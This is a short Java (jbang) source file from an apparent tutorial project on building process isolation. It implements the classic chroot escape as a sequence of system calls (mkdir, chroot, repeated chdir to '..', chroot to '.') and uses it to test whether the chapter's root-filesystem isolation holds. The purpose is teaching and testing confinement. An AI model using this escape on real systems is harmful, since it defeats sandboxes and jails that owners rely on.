///usr/bin/env jbang "$0" "$@" ; exit $?
//JAVA 25+
//SOURCES ChrootOnly.java
//SOURCES Step03.java

import boxwright.isolation.Isolation;
import boxwright.kernel.PlanBuilder;
import java.util.Arrays;
import java.util.List;

/**
 * An attack on step 3, older than containers; chroot(2), under "Notes". An attack is a list of system calls, too: these
 * lines are the last before the program, so what it sees as {@code /} is how far they led.
 */
record ChrootEscape() implements Isolation {
    @Override
    public String chapter() {
        return "03-root-filesystem";
    }

    @Override
    public void addTo(PlanBuilder plan) {
        plan.mkdir("den", 0755).because("any directory will do");
        plan.chroot("den").because("the root goes down, the current directory stays: now it is outside of the root");
        plan.chdir("../".repeat(32)).because("up: the kernel stops .. at the root only, and never meets it");
        plan.chroot(".").because("the top of all mounts becomes the root");
    }

    /** {@code ChrootEscape --chroot COMMAND} escapes from {@link ChrootOnly}; without the word it tries in step 3. */
    static void main(String[] args) {
        boolean chroot = args.length > 0 && args[0].equals("--chroot");
        ImageStep.run("ChrootEscape", "a way out", Arrays.copyOfRange(args, chroot ? 1 : 0, args.length), root -> {
            List<Isolation> prison = chroot ? ChrootOnly.isolation(root) : Step03.isolation(root);
            return Step.with(prison, new ChrootEscape());
        });
    }
}
